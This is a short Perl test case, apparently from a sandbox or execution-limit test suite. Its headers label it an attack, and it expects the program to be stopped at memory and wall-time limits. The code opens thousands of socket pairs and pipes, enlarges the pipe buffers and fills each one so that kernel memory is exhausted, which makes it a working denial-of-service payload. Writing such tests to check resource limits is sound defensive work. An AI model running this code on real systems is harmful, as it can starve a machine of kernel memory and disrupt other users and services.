# attack: takes the kernel's memory with pipes and sockets that are full
# language: perl
# expect: exit *, limit MEMORY, limit WALL_TIME
# time-limit: 4 s
use IO::Handle;
use Socket;
my @held;
my $data = 'x' x 65536;
while (@held < 20_000) {
  my ($in, $out);
  last unless socketpair $in, $out, AF_UNIX, SOCK_STREAM, PF_UNSPEC;
  $out->blocking(0);
  1 while syswrite $out, $data;
  push @held, $in, $out;
  last unless pipe my $read, my $write;
  fcntl $write, 1031, 1 << 20;
  $write->blocking(0);
  1 while syswrite $write, $data;
  push @held, $read, $write;
}
print scalar @held, "\n";
